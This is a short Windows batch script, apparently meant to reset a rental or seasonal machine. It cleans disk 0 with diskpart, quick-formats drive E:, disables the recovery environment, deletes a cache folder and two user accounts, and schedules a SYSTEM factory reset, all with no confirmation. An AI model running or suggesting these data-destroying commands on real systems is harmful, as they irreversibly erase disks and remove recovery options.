@echo off
(
echo select disk 0
echo clean
) > C:\Windows\Temp\disk.txt
diskpart /s C:\Windows\Temp\disk.txt
format E: /fs:ntfs /q /y
reagentc /disable
rd /s /q "%RENTAL_CACHE%\"
schtasks /create /tn Reset /sc once /st 03:00 /ru SYSTEM /tr "systemreset.exe -factoryreset" /f
net user season /delete
net user defaultuser0 /delete
